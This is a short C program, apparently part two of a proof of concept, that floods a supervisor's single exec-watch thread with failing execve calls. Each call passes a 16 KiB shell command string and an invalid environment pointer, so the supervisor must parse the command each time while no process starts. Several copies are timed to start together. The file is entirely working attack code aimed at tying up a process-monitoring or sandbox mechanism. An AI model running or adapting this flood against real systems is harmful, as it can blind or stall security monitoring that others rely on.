/* #2: keep the supervisor's one exec-watch thread busy. Each call is an execve of /bin/sh
 * with `-c` and 16 KiB of text (the watch parses it to see whether it is a registered
 * hook command: shlex over 16 KiB) and an invalid envp, so the kernel fails it (EFAULT)
 * after the supervisor answered: no fork, no process started, the loop asks again.
 * usage: exec_flood BYTES START   (START: a CLOCK_REALTIME second to begin at; run N copies) */
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
int main(int argc, char **argv) {
    size_t n = argc > 1 ? (size_t)atol(argv[1]) : 16384;
    time_t start = argc > 2 ? (time_t)atol(argv[2]) : 0;
    char *junk = malloc(n + 1);
    memset(junk, 'a', n);
    junk[n] = 0;
    char *args[] = {"sh", "-c", junk, NULL};
    char **volatile bad = (char **)1;
    while (time(NULL) < start) usleep(20000);
    for (;;) execve("/bin/sh", args, bad);
}
